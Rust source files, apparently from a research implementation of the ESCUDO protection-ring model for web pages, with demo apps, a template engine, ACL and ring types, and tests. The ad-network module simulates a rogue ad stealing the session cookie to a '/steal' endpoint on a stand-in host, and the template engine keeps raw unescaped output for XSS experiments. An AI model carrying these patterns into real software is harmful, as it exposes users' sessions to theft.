        // The bootstrap builds the page the user actually sees: everything
        // inside #view is script-created, so its labels come from the dynamic
        // clamp (ring-1 creator inside a ring-1 parent), not from AC tags.
        let bootstrap = "var view = document.getElementById('view');\
                         view.innerHTML = '<div id=\"note-1\">first note</div>\
                         <div id=\"note-2\">second note</div>';\
                         var status = document.getElementById('status');\
                         status.innerHTML = 'ready';";

        let shell = markup.region(
            Ring::new(1),
            Acl::uniform(Ring::new(1)),
            "id=\"shell\"",
            &format!(
                "<h1>Notes</h1><div id=\"status\">booting</div><div id=\"view\"></div>\
                 <script>{bootstrap}</script>"
            ),
        );

        // The widget slot: ring 3, confined to itself like a reader comment.
        let widget = match &self.widget_script {
            Some(script) => markup.region(
                Ring::new(3),
                Acl::uniform(Ring::new(3)),
                "id=\"widget\"",
                &format!("<span id=\"widget-out\">widget</span><script>{script}</script>"),
            ),
            None => String::new(),
        };

        let body = markup.region_with_tag(
            "body",
            Ring::new(1),
            Acl::uniform(Ring::new(1)),
            "",
            &format!("{shell}{widget}"),
        );
        self.with_policies(Response::ok_html(format!(
            "<!DOCTYPE html><html><head><title>SPA</title></head>{body}</html>"
        )))
    }

    fn session_user(&self, request: &Request) -> Option<String> {
        let sid = request.cookie(SPA_COOKIE)?;
        self.state
            .lock()
            .expect("app state lock")
            .sessions
            .get(&sid)
            .map(|s| s.user.clone())
    }
}

impl Default for SpaApp {
    fn default() -> Self {
        SpaApp::new()
    }
}

impl Server for SpaApp {
    fn handle(&mut self, request: &Request) -> Response {
        match request.url.path() {
            "/login" | "/login.php" => {
                let user = request.param("user").unwrap_or_else(|| "guest".to_string());
                let sid = self
                    .state
                    .lock()
                    .expect("app state lock")
                    .sessions
                    .create(&user);
                self.with_policies(
                    Response::redirect("/").with_cookie(SetCookie::new(SPA_COOKIE, sid)),
                )
            }
            "/" | "/index.html" => self.render_shell(),
            "/api/save" => {
                let author = self
                    .session_user(request)
                    .unwrap_or_else(|| "anonymous".to_string());
                let note = request.param("note").unwrap_or_default();
                self.state
                    .lock()
                    .expect("app state lock")
                    .saved
                    .push(SavedNote { author, note });
                self.with_policies(Response::ok_text("saved"))
            }
            _ => Response::error(StatusCode::NOT_FOUND, "not found"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_shell_ships_empty_and_the_bootstrap_builds_the_view() {
        let mut app = SpaApp::new();
        let page = app.handle(&Request::get("http://spa.example/").unwrap());
        // The server never renders the notes — the #view container ships
        // empty and only the bootstrap script's source mentions them.
        assert!(page.body.contains("<div id=\"view\"></div>"));
        assert!(page.body.contains("view.innerHTML"));
        assert!(page.body.contains("ring=\"1\""));
        assert_eq!(page.api_policies().len(), 2);
    }

    #[test]
    fn widgets_mount_in_a_ring_3_slot() {
        let mut app = SpaApp::new().with_widget("var x = 1;");
        let page = app.handle(&Request::get("http://spa.example/").unwrap());
        assert!(page.body.contains("id=\"widget\""));
        assert!(page.body.contains("ring=\"3\""));
        assert!(page.body.contains("var x = 1;"));
    }

    #[test]
    fn the_save_api_attributes_notes_to_the_session_user() {
        let mut app = SpaApp::new();
        let login = app.handle(&Request::get("http://spa.example/login?user=victim").unwrap());
        let sid = login.set_cookies()[0].value.clone();
        let mut save =
            Request::post_form("http://spa.example/api/save", &[("note", "hi")]).unwrap();
        save.headers.set("Cookie", format!("{SPA_COOKIE}={sid}"));
        app.handle(&save);
        let state = app.state();
        let state = state.lock().expect("app state lock");
        assert_eq!(state.saved.len(), 1);
        assert_eq!(state.saved[0].author, "victim");

        let mut app2 = SpaApp::new();
        app2.handle(&Request::post_form("http://spa.example/api/save", &[("note", "x")]).unwrap());
        assert_eq!(
            app2.state().lock().expect("app state lock").saved[0].author,
            "anonymous"
        );
    }
}
