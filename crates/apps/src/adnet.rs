//! A news publisher leasing N advertising slots to third-party ad origins.
//!
//! This is the paper's introduction scenario at scale: one ring-1 publisher
//! page embeds `N` ring-2 slots, each pulling a banner image from its own
//! third-party origin (`http://ad<i>.example`) and running that network's
//! inline script. The multi-origin subresource fan-out exercises the fetch
//! pool's priority lanes; the per-slot rings exercise the confinement claim —
//! a well-behaved ad may restyle its own slot, a rogue one must not reach the
//! publisher's headline or session cookie even though its script runs in the
//! publisher's page.

use std::fmt;
use std::sync::{Arc, Mutex};

use escudo_core::config::{ApiPolicy, CookiePolicy, NativeApi};
use escudo_core::{Acl, Ring};
use escudo_net::{Request, Response, Server, SetCookie, StatusCode};

use crate::markup::AcMarkup;
use crate::session::SessionStore;

/// The publisher's session cookie.
pub const NEWS_COOKIE: &str = "news_session";

/// Server-side state of the publisher.
#[derive(Debug)]
pub struct NewsState {
    /// Live sessions.
    pub sessions: SessionStore,
}

/// The news publisher.
pub struct NewsSite {
    escudo: bool,
    /// Number of leased ad slots (one third-party origin each).
    slots: usize,
    /// When set, this slot (0-based) runs `rogue_script` instead of the
    /// well-behaved restyle script.
    rogue_slot: Option<usize>,
    rogue_script: String,
    state: Arc<Mutex<NewsState>>,
}

impl fmt::Debug for NewsSite {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("NewsSite")
            .field("escudo", &self.escudo)
            .field("slots", &self.slots)
            .field("rogue_slot", &self.rogue_slot)
            .finish()
    }
}

impl NewsSite {
    /// A publisher with `slots` leased ad slots, all well-behaved.
    #[must_use]
    pub fn new(slots: usize) -> Self {
        NewsSite {
            escudo: true,
            slots: slots.max(1),
            rogue_slot: None,
            rogue_script: String::new(),
            state: Arc::new(Mutex::new(NewsState {
                sessions: SessionStore::new(0xAD00),
            })),
        }
    }

    /// Replaces one slot's script with a rogue one (builder style).
    #[must_use]
    pub fn with_rogue_slot(mut self, slot: usize, script: &str) -> Self {
        self.rogue_slot = Some(slot);
        self.rogue_script = script.to_string();
        self
    }

    /// The origin serving slot `i`'s banner, e.g. `http://ad0.example`.
    #[must_use]
    pub fn ad_origin(i: usize) -> String {
        format!("http://ad{i}.example")
    }

    /// A handle to the server-side state.
    #[must_use]
    pub fn state(&self) -> Arc<Mutex<NewsState>> {
        Arc::clone(&self.state)
    }

    fn with_policies(&self, response: Response) -> Response {
        if !self.escudo {
            return response;
        }
        response
            .with_cookie_policy(
                &CookiePolicy::new(NEWS_COOKIE, Ring::new(1)).with_acl(Acl::uniform(Ring::new(1))),
            )
            .with_api_policy(&ApiPolicy::new(NativeApi::XmlHttpRequest, Ring::new(1)))
            .with_api_policy(&ApiPolicy::new(NativeApi::CookieApi, Ring::new(1)))
    }

    fn render_front_page(&self) -> Response {
        let mut markup = AcMarkup::new(0xAD00, self.escudo);

        let article = markup.region(
            Ring::new(1),
            Acl::uniform(Ring::new(1)),
            "id=\"article\"",
            "<h1 id=\"headline\">Rings for the web</h1>\
             <p id=\"article-body\">ESCUDO assigns every ad network its own ring.</p>",
        );

        // Each slot: a banner image from its own origin plus that network's
        // inline script, confined to ring 2.
        let mut slot_markup = String::new();
        for i in 0..self.slots {
            let script = match self.rogue_slot {
                Some(rogue) if rogue == i => self.rogue_script.clone(),
                _ => format!(
                    "var text = document.getElementById('ad-text-{i}');\
                     if (text != null) {{ text.innerHTML = 'buy things from ad{i}'; }}"
                ),
            };
            let origin = NewsSite::ad_origin(i);
            slot_markup.push_str(&markup.region(
                Ring::new(2),
                Acl::uniform(Ring::new(2)),
                &format!("id=\"ad-slot-{i}\""),
                &format!(
                    "<img id=\"ad-img-{i}\" src=\"{origin}/banner.png\">\
                     <span id=\"ad-text-{i}\">advertisement</span><script>{script}</script>"
                ),
            ));
        }

        let body = markup.region_with_tag(
            "body",
            Ring::new(1),
            Acl::uniform(Ring::new(1)),
            "",
            &format!("{article}{slot_markup}"),
        );
        self.with_policies(Response::ok_html(format!(
            "<!DOCTYPE html><html><head><title>News</title></head>{body}</html>"
        )))
    }
}

impl Server for NewsSite {
    fn handle(&mut self, request: &Request) -> Response {
        match request.url.path() {
            "/login" | "/login.php" => {
                let user = request
                    .param("user")
                    .unwrap_or_else(|| "reader".to_string());
                let sid = self
                    .state
                    .lock()
                    .expect("app state lock")
                    .sessions
                    .create(&user);
                self.with_policies(
                    Response::redirect("/").with_cookie(SetCookie::new(NEWS_COOKIE, sid)),
                )
            }
            "/" | "/index.html" => self.render_front_page(),
            _ => Response::error(StatusCode::NOT_FOUND, "not found"),
        }
    }
}

/// One third-party ad origin: serves banner images and records anything that
/// lands on its `/steal` endpoint (a rogue network doubles as the exfiltration
/// sink — the stolen cookie travels to an origin the page legitimately loads
/// images from).
pub struct AdServer {
    banners_served: Arc<Mutex<u64>>,
    stolen: Arc<Mutex<Vec<String>>>,
}

impl fmt::Debug for AdServer {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("AdServer")
            .field(
                "banners_served",
                &*self.banners_served.lock().expect("app state lock"),
            )
            .finish()
    }
}

impl AdServer {
    /// Creates an ad origin.
    #[must_use]
    pub fn new() -> Self {
        AdServer {
            banners_served: Arc::new(Mutex::new(0)),
            stolen: Arc::new(Mutex::new(Vec::new())),
        }
    }

    /// A handle to the banner-hit counter.
    #[must_use]
    pub fn banners_served(&self) -> Arc<Mutex<u64>> {
        Arc::clone(&self.banners_served)
    }

    /// A handle to the exfiltration log (query strings received at `/steal`).
    #[must_use]
    pub fn stolen(&self) -> Arc<Mutex<Vec<String>>> {
        Arc::clone(&self.stolen)
    }
}

impl Default for AdServer {
    fn default() -> Self {
        AdServer::new()
    }
}

impl Server for AdServer {
    fn handle(&mut self, request: &Request) -> Response {
        match request.url.path() {
            "/banner.png" => {
                *self.banners_served.lock().expect("app state lock") += 1;
                // The banner is a static asset: declare it cacheable so
                // cache-enabled sessions can serve repeat impressions as
                // response-cache hits (the served counter then counts origin
                // fetches, not impressions).
                Response::ok_text("PNG").with_max_age(300)
            }
            "/steal" => {
                self.stolen
                    .lock()
                    .expect("app state lock")
                    .push(request.url.query().to_string());
                Response::ok_text("thanks")
            }
            _ => Response::error(StatusCode::NOT_FOUND, "not found"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_front_page_leases_one_ring_2_slot_per_origin() {
        let mut site = NewsSite::new(3);
        let page = site.handle(&Request::get("http://news.example/").unwrap());
        for i in 0..3 {
            assert!(page.body.contains(&format!("id=\"ad-slot-{i}\"")));
            assert!(page
                .body
                .contains(&format!("http://ad{i}.example/banner.png")));
        }
        assert!(page.body.contains("id=\"headline\""));
        assert!(page.body.contains("ring=\"2\""));
        assert_eq!(page.api_policies().len(), 2);
    }

    #[test]
    fn rogue_slots_swap_in_the_rogue_script() {
        let mut site = NewsSite::new(2).with_rogue_slot(1, "var evil = true;");
        let page = site.handle(&Request::get("http://news.example/").unwrap());
        assert!(page.body.contains("var evil = true;"));
        assert!(page.body.contains("buy things from ad0"));
        assert!(!page.body.contains("buy things from ad1"));
    }

    #[test]
    fn ad_servers_count_banners_and_record_exfiltration() {
        let mut ad = AdServer::new();
        let hits = ad.banners_served();
        let stolen = ad.stolen();
        ad.handle(&Request::get("http://ad0.example/banner.png").unwrap());
        ad.handle(&Request::get("http://ad0.example/banner.png").unwrap());
        ad.handle(&Request::get("http://ad0.example/steal?c=news_session%3Dabc").unwrap());
        assert_eq!(*hits.lock().expect("app state lock"), 2);
        assert!(stolen.lock().expect("app state lock")[0].contains("news_session"));
        assert_eq!(
            ad.handle(&Request::get("http://ad0.example/other").unwrap())
                .status,
            StatusCode::NOT_FOUND
        );
    }
}
