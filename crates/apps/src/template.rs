//! A miniature HTML template engine.
//!
//! The paper recommends specifying the ESCUDO configuration in templates ("HTML
//! template engines provide a structured method for isolating the view elements from
//! the business logic … The ESCUDO configuration can be specified in the template").
//! This engine supports exactly what the bundled applications need:
//!
//! * `{{name}}` — HTML-escaped substitution,
//! * `{{{name}}}` — raw (unescaped) substitution, used deliberately where the
//!   applications embed user-supplied markup (the XSS experiments rely on it),
//! * `{{#each name}} … {{/each}}` — iteration over a list of nested variable maps.

use std::collections::HashMap;
use std::fmt;

/// A value usable in a template context.
#[derive(Debug, Clone)]
pub enum TemplateValue {
    /// A text value.
    Text(String),
    /// A list of nested contexts, used by `{{#each}}`.
    List(Vec<TemplateContext>),
}

/// A set of named template values.
pub type TemplateContext = HashMap<String, TemplateValue>;

/// Errors produced while rendering a template.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TemplateError {
    /// An `{{#each}}` block was not closed.
    UnclosedEach(String),
    /// `{{#each}}` referred to a value that is not a list.
    NotAList(String),
}

impl fmt::Display for TemplateError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            TemplateError::UnclosedEach(name) => write!(f, "unclosed {{{{#each {name}}}}} block"),
            TemplateError::NotAList(name) => write!(f, "`{name}` is not a list"),
        }
    }
}

impl std::error::Error for TemplateError {}

/// Convenience constructor for a text value.
#[must_use]
pub fn text(value: impl Into<String>) -> TemplateValue {
    TemplateValue::Text(value.into())
}

/// Escapes text for safe inclusion in HTML (the "input validation / sanitization"
/// first-line defense the paper discusses — applications can switch it off for the
/// attack experiments).
#[must_use]
pub fn html_escape(input: &str) -> String {
    let mut out = String::with_capacity(input.len());
    for c in input.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            _ => out.push(c),
        }
    }
    out
}

/// Renders a template against a context.
///
/// # Errors
///
/// Returns a [`TemplateError`] for unclosed `{{#each}}` blocks or when an `{{#each}}`
/// target is not a list. Unknown variables render as empty strings (a forgiving
/// behaviour matching typical PHP template engines).
pub fn render(template: &str, context: &TemplateContext) -> Result<String, TemplateError> {
    let mut output = String::with_capacity(template.len());
    let mut rest = template;
    while let Some(start) = rest.find("{{") {
        output.push_str(&rest[..start]);
        let after = &rest[start + 2..];

        if let Some(each_name) = after.strip_prefix("#each ") {
            let name_end = each_name
                .find("}}")
                .ok_or_else(|| TemplateError::UnclosedEach(each_name.to_string()))?;
            let name = each_name[..name_end].trim().to_string();
            let body_start = start + 2 + 6 + name_end + 2;
            let body_and_rest = &rest[body_start..];
            let close_tag = "{{/each}}";
            let close = body_and_rest
                .find(close_tag)
                .ok_or_else(|| TemplateError::UnclosedEach(name.clone()))?;
            let body = &body_and_rest[..close];
            match context.get(&name) {
                Some(TemplateValue::List(items)) => {
                    for item in items {
                        // Nested contexts inherit the outer variables.
                        let mut merged = context.clone();
                        merged.extend(item.clone());
                        output.push_str(&render(body, &merged)?);
                    }
                }
                Some(TemplateValue::Text(_)) => return Err(TemplateError::NotAList(name)),
                None => {}
            }
            rest = &body_and_rest[close + close_tag.len()..];
            continue;
        }

        // Raw substitution {{{name}}}.
        if let Some(raw) = after.strip_prefix('{') {
            if let Some(end) = raw.find("}}}") {
                let name = raw[..end].trim();
                if let Some(TemplateValue::Text(value)) = context.get(name) {
                    output.push_str(value);
                }
                rest = &raw[end + 3..];
                continue;
            }
        }

        // Escaped substitution {{name}}.
        if let Some(end) = after.find("}}") {
            let name = after[..end].trim();
            if let Some(TemplateValue::Text(value)) = context.get(name) {
                output.push_str(&html_escape(value));
            }
            rest = &after[end + 2..];
        } else {
            output.push_str("{{");
            rest = after;
        }
    }
    output.push_str(rest);
    Ok(output)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ctx(pairs: &[(&str, &str)]) -> TemplateContext {
        pairs
            .iter()
            .map(|(k, v)| ((*k).to_string(), text(*v)))
            .collect()
    }

    #[test]
    fn substitution_is_escaped_by_default() {
        let out = render(
            "<p>{{msg}}</p>",
            &ctx(&[("msg", "<script>alert(1)</script>")]),
        )
        .unwrap();
        assert_eq!(out, "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>");
    }

    #[test]
    fn raw_substitution_is_not_escaped() {
        let out = render(
            "<div>{{{markup}}}</div>",
            &ctx(&[("markup", "<b>bold</b>")]),
        )
        .unwrap();
        assert_eq!(out, "<div><b>bold</b></div>");
    }

    #[test]
    fn unknown_variables_render_empty() {
        let out = render("[{{missing}}]", &ctx(&[])).unwrap();
        assert_eq!(out, "[]");
    }

    #[test]
    fn each_blocks_iterate() {
        let mut context = TemplateContext::new();
        context.insert("title".to_string(), text("Topics"));
        context.insert(
            "topics".to_string(),
            TemplateValue::List(vec![
                ctx(&[("name", "First"), ("author", "alice")]),
                ctx(&[("name", "Second & third"), ("author", "bob")]),
            ]),
        );
        let out = render(
            "<h1>{{title}}</h1><ul>{{#each topics}}<li>{{name}} by {{author}}</li>{{/each}}</ul>",
            &context,
        )
        .unwrap();
        assert_eq!(
            out,
            "<h1>Topics</h1><ul><li>First by alice</li><li>Second &amp; third by bob</li></ul>"
        );
    }

    #[test]
    fn each_over_missing_or_scalar_values() {
        let out = render("{{#each nothing}}x{{/each}}done", &ctx(&[])).unwrap();
        assert_eq!(out, "done");
        let err = render("{{#each name}}x{{/each}}", &ctx(&[("name", "scalar")])).unwrap_err();
        assert_eq!(err, TemplateError::NotAList("name".to_string()));
    }

    #[test]
    fn unclosed_blocks_are_errors() {
        let mut context = TemplateContext::new();
        context.insert("items".to_string(), TemplateValue::List(vec![]));
        assert!(matches!(
            render("{{#each items}}never closed", &context),
            Err(TemplateError::UnclosedEach(_))
        ));
    }

    #[test]
    fn literal_braces_survive() {
        let out = render("a {{ b", &ctx(&[])).unwrap();
        assert_eq!(out, "a {{ b");
    }

    #[test]
    fn escaping_helper_covers_the_usual_suspects() {
        assert_eq!(
            html_escape(r#"<img src="x" onerror='go()'>&"#),
            "&lt;img src=&quot;x&quot; onerror=&#39;go()&#39;&gt;&amp;"
        );
    }
}
