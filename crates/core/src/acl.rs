//! Per-object access-control lists.
//!
//! In addition to the ring an object lives in, ESCUDO lets an object carry an ACL that
//! names, for each of the three operations, the **outermost (least privileged) ring**
//! that may perform the operation. The ACL can only ever *tighten* the ring rule —
//! an ACL more permissive than the object's own ring is ineffective because the ring
//! rule is evaluated as well.

use std::fmt;

use crate::operation::Operation;
use crate::ring::Ring;

/// An object's access-control list: the least-privileged ring admitted for each
/// operation (the paper's `r=`, `w=`, `x=` attributes, i.e. `⊓(O, ▷)`).
///
/// The fail-safe default (`Acl::default()`) admits **only ring 0** for every operation,
/// matching the paper: "the ACL will be set to `r=0, w=0, x=0`, allowing only the
/// principals in ring 0 to access it".
///
/// # Example
///
/// ```
/// use escudo_core::{Acl, Operation, Ring};
///
/// // Readable and usable from ring ≤ 2, writable only from ring 0.
/// let acl = Acl::new(Ring::new(2), Ring::new(0), Ring::new(2));
/// assert!(acl.admits(Ring::new(1), Operation::Read));
/// assert!(!acl.admits(Ring::new(1), Operation::Write));
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Acl {
    /// Least-privileged ring allowed to read the object.
    pub read: Ring,
    /// Least-privileged ring allowed to write the object.
    pub write: Ring,
    /// Least-privileged ring allowed to (implicitly) use the object.
    pub use_: Ring,
}

impl Acl {
    /// Creates an ACL from the three per-operation bounds.
    #[must_use]
    pub const fn new(read: Ring, write: Ring, use_: Ring) -> Self {
        Acl { read, write, use_ }
    }

    /// An ACL where every operation admits rings up to and including `ring`.
    ///
    /// ```
    /// use escudo_core::{Acl, Operation, Ring};
    /// let acl = Acl::uniform(Ring::new(1));
    /// for op in Operation::ALL {
    ///     assert!(acl.admits(Ring::new(1), op));
    ///     assert!(!acl.admits(Ring::new(2), op));
    /// }
    /// ```
    #[must_use]
    pub const fn uniform(ring: Ring) -> Self {
        Acl {
            read: ring,
            write: ring,
            use_: ring,
        }
    }

    /// The fail-safe ACL: only ring 0 may read, write or use the object.
    #[must_use]
    pub const fn ring_zero_only() -> Self {
        Acl::uniform(Ring::INNERMOST)
    }

    /// A fully permissive ACL (every ring admitted). Useful as the implicit ACL of
    /// legacy content where only the ring rule and origin rule should apply.
    #[must_use]
    pub const fn permissive() -> Self {
        Acl::uniform(Ring::OUTERMOST)
    }

    /// The bound `⊓(O, ▷)` for a given operation.
    #[must_use]
    pub const fn bound(&self, op: Operation) -> Ring {
        match op {
            Operation::Read => self.read,
            Operation::Write => self.write,
            Operation::Use => self.use_,
        }
    }

    /// Returns a copy of the ACL with the bound for `op` replaced.
    #[must_use]
    pub fn with_bound(mut self, op: Operation, ring: Ring) -> Self {
        match op {
            Operation::Read => self.read = ring,
            Operation::Write => self.write = ring,
            Operation::Use => self.use_ = ring,
        }
        self
    }

    /// The ACL rule: does a principal in `principal_ring` satisfy this ACL for `op`?
    #[must_use]
    pub fn admits(&self, principal_ring: Ring, op: Operation) -> bool {
        principal_ring.is_at_least_as_privileged_as(self.bound(op))
    }

    /// Clamps every bound so it is no more permissive than `ring` (used when an object
    /// in ring `n` declares an ACL admitting rings beyond `n`; the paper notes the ring
    /// rule already makes such an ACL ineffective, this normalizes the stored value).
    #[must_use]
    pub fn clamped_to_ring(&self, ring: Ring) -> Self {
        Acl {
            read: self.read.most_privileged(ring),
            write: self.write.most_privileged(ring),
            use_: self.use_.most_privileged(ring),
        }
    }
}

impl Default for Acl {
    /// The fail-safe default: `r=0, w=0, x=0`.
    fn default() -> Self {
        Acl::ring_zero_only()
    }
}

impl fmt::Display for Acl {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "r={} w={} x={}",
            self.read.level(),
            self.write.level(),
            self.use_.level()
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_is_ring_zero_only() {
        let acl = Acl::default();
        assert!(acl.admits(Ring::INNERMOST, Operation::Read));
        assert!(!acl.admits(Ring::new(1), Operation::Read));
        assert!(!acl.admits(Ring::new(1), Operation::Write));
        assert!(!acl.admits(Ring::new(1), Operation::Use));
    }

    #[test]
    fn permissive_admits_everything() {
        let acl = Acl::permissive();
        for op in Operation::ALL {
            assert!(acl.admits(Ring::OUTERMOST, op));
            assert!(acl.admits(Ring::INNERMOST, op));
        }
    }

    #[test]
    fn per_operation_bounds_are_independent() {
        let acl = Acl::new(Ring::new(2), Ring::new(0), Ring::new(1));
        assert!(acl.admits(Ring::new(2), Operation::Read));
        assert!(!acl.admits(Ring::new(2), Operation::Use));
        assert!(!acl.admits(Ring::new(1), Operation::Write));
        assert!(acl.admits(Ring::new(1), Operation::Use));
    }

    #[test]
    fn with_bound_replaces_a_single_entry() {
        let acl = Acl::uniform(Ring::new(3)).with_bound(Operation::Write, Ring::new(0));
        assert_eq!(acl.bound(Operation::Write), Ring::new(0));
        assert_eq!(acl.bound(Operation::Read), Ring::new(3));
        assert_eq!(acl.bound(Operation::Use), Ring::new(3));
    }

    #[test]
    fn clamping_never_loosens() {
        let acl = Acl::new(Ring::new(5), Ring::new(1), Ring::new(3));
        let clamped = acl.clamped_to_ring(Ring::new(2));
        assert_eq!(clamped.read, Ring::new(2));
        assert_eq!(clamped.write, Ring::new(1));
        assert_eq!(clamped.use_, Ring::new(2));
    }

    #[test]
    fn display_matches_attribute_syntax() {
        let acl = Acl::new(Ring::new(1), Ring::new(0), Ring::new(2));
        assert_eq!(acl.to_string(), "r=1 w=0 x=2");
    }

    #[test]
    fn admits_is_monotone_in_principal_privilege() {
        for bound in 0u16..40 {
            for hi in 0u16..40 {
                for lo in 0u16..=hi {
                    for op in Operation::ALL {
                        let acl = Acl::uniform(Ring::new(bound));
                        // If the less privileged principal is admitted, the more
                        // privileged one is too.
                        if acl.admits(Ring::new(hi), op) {
                            assert!(acl.admits(Ring::new(lo), op));
                        }
                    }
                }
            }
        }
    }

    #[test]
    fn clamped_bounds_are_at_least_as_strict() {
        for r in (0u16..100).step_by(7) {
            for w in (0u16..100).step_by(11) {
                for x in (0u16..100).step_by(13) {
                    for clamp in 0u16..25 {
                        let acl = Acl::new(Ring::new(r), Ring::new(w), Ring::new(x));
                        let clamped = acl.clamped_to_ring(Ring::new(clamp));
                        for op in Operation::ALL {
                            // The clamped bound is never less privileged (never admits
                            // more rings).
                            assert!(
                                clamped
                                    .bound(op)
                                    .is_at_least_as_privileged_as(acl.bound(op))
                                    || clamped.bound(op) == acl.bound(op)
                            );
                            assert!(clamped
                                .bound(op)
                                .is_at_least_as_privileged_as(Ring::new(clamp)));
                        }
                    }
                }
            }
        }
    }
}
