//! Hierarchical protection rings.
//!
//! ESCUDO adapts Multics-style hierarchical protection rings (HPR) to the web page.
//! Rings are labelled `0, 1, …, N` where `N` is application dependent; **ring 0 is the
//! most privileged** and ring `N` the least. The number of rings is chosen by each web
//! application — the model does not fix `N`, it only defines the ordering.

use std::fmt;
use std::str::FromStr;

use crate::error::ConfigError;

/// A protection-ring label.
///
/// Smaller numbers denote **more** privilege: ring 0 is the most privileged ring. The
/// `Ord` implementation is numeric (`Ring::new(0) < Ring::new(3)`); use
/// [`Ring::is_at_least_as_privileged_as`] when the intent is a privilege comparison so
/// call sites read like the paper's ring rule `R(P) ≤ R(O)`.
///
/// # Example
///
/// ```
/// use escudo_core::Ring;
///
/// let kernel = Ring::new(0);
/// let user_content = Ring::new(3);
/// assert!(kernel.is_at_least_as_privileged_as(user_content));
/// assert!(!user_content.is_at_least_as_privileged_as(kernel));
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Ring(u16);

impl Ring {
    /// The most privileged ring (ring 0). Browser state and, by default, cookies and
    /// native-code APIs live here (fail-safe defaults).
    pub const INNERMOST: Ring = Ring(0);

    /// The least privileged ring expressible by this implementation.
    ///
    /// The paper leaves `N` application-defined; we use the full `u16` range and treat
    /// `u16::MAX` as "less privileged than anything an application will assign", which
    /// is the fail-safe default for unlabeled DOM regions.
    pub const OUTERMOST: Ring = Ring(u16::MAX);

    /// Creates a ring with the given label. `0` is most privileged.
    ///
    /// ```
    /// use escudo_core::Ring;
    /// assert_eq!(Ring::new(2).level(), 2);
    /// ```
    #[must_use]
    pub const fn new(level: u16) -> Self {
        Ring(level)
    }

    /// Returns the numeric ring label.
    #[must_use]
    pub const fn level(self) -> u16 {
        self.0
    }

    /// The paper's ring-rule comparison: `self` is at least as privileged as `other`
    /// when its label is numerically less than or equal (`R(P) ≤ R(O)`).
    ///
    /// ```
    /// use escudo_core::Ring;
    /// assert!(Ring::new(1).is_at_least_as_privileged_as(Ring::new(1)));
    /// assert!(Ring::new(1).is_at_least_as_privileged_as(Ring::new(3)));
    /// assert!(!Ring::new(3).is_at_least_as_privileged_as(Ring::new(1)));
    /// ```
    #[must_use]
    pub const fn is_at_least_as_privileged_as(self, other: Ring) -> bool {
        self.0 <= other.0
    }

    /// Strictly more privileged than `other`.
    #[must_use]
    pub const fn is_more_privileged_than(self, other: Ring) -> bool {
        self.0 < other.0
    }

    /// Returns the less privileged (numerically larger) of two rings.
    ///
    /// This is the primitive used by the scoping rule: a child's effective ring is
    /// `least_privileged(child_declared, parent_effective)`.
    ///
    /// ```
    /// use escudo_core::Ring;
    /// assert_eq!(Ring::new(1).least_privileged(Ring::new(3)), Ring::new(3));
    /// ```
    #[must_use]
    pub fn least_privileged(self, other: Ring) -> Ring {
        if self.0 >= other.0 {
            self
        } else {
            other
        }
    }

    /// Returns the more privileged (numerically smaller) of two rings.
    #[must_use]
    pub fn most_privileged(self, other: Ring) -> Ring {
        if self.0 <= other.0 {
            self
        } else {
            other
        }
    }
}

impl Default for Ring {
    /// The fail-safe default for unlabeled content is the **least** privileged ring.
    fn default() -> Self {
        Ring::OUTERMOST
    }
}

impl fmt::Display for Ring {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "ring {}", self.0)
    }
}

impl From<u16> for Ring {
    fn from(level: u16) -> Self {
        Ring(level)
    }
}

impl FromStr for Ring {
    type Err = ConfigError;

    /// Parses a ring label as it appears in AC-tag attributes (`ring=2`) or ESCUDO
    /// HTTP headers. Leading/trailing whitespace is accepted.
    ///
    /// # Errors
    ///
    /// Returns [`ConfigError::InvalidRing`] when the string is not a non-negative
    /// integer that fits the ring range.
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let trimmed = s.trim();
        trimmed
            .parse::<u16>()
            .map(Ring)
            .map_err(|_| ConfigError::InvalidRing(s.to_string()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Representative ring levels including the extremes — used by the exhaustive
    /// property checks below (the full u16×u16 grid is too large to enumerate).
    const SAMPLE_LEVELS: [u16; 12] = [0, 1, 2, 3, 4, 7, 100, 255, 256, 32_767, 65_534, u16::MAX];

    #[test]
    fn ring_zero_is_most_privileged() {
        assert!(Ring::INNERMOST.is_at_least_as_privileged_as(Ring::new(1)));
        assert!(Ring::INNERMOST.is_at_least_as_privileged_as(Ring::OUTERMOST));
        assert!(Ring::INNERMOST.is_at_least_as_privileged_as(Ring::INNERMOST));
    }

    #[test]
    fn ordering_is_numeric() {
        assert!(Ring::new(0) < Ring::new(1));
        assert!(Ring::new(3) > Ring::new(2));
        assert_eq!(Ring::new(7), Ring::new(7));
    }

    #[test]
    fn default_is_outermost() {
        assert_eq!(Ring::default(), Ring::OUTERMOST);
    }

    #[test]
    fn least_and_most_privileged_pick_extremes() {
        let a = Ring::new(1);
        let b = Ring::new(3);
        assert_eq!(a.least_privileged(b), b);
        assert_eq!(b.least_privileged(a), b);
        assert_eq!(a.most_privileged(b), a);
        assert_eq!(b.most_privileged(a), a);
    }

    #[test]
    fn parse_accepts_whitespace() {
        assert_eq!(" 2 ".parse::<Ring>().unwrap(), Ring::new(2));
        assert_eq!("0".parse::<Ring>().unwrap(), Ring::INNERMOST);
    }

    #[test]
    fn parse_rejects_garbage() {
        assert!("".parse::<Ring>().is_err());
        assert!("-1".parse::<Ring>().is_err());
        assert!("ring".parse::<Ring>().is_err());
        assert!("1.5".parse::<Ring>().is_err());
        assert!("70000".parse::<Ring>().is_err());
    }

    #[test]
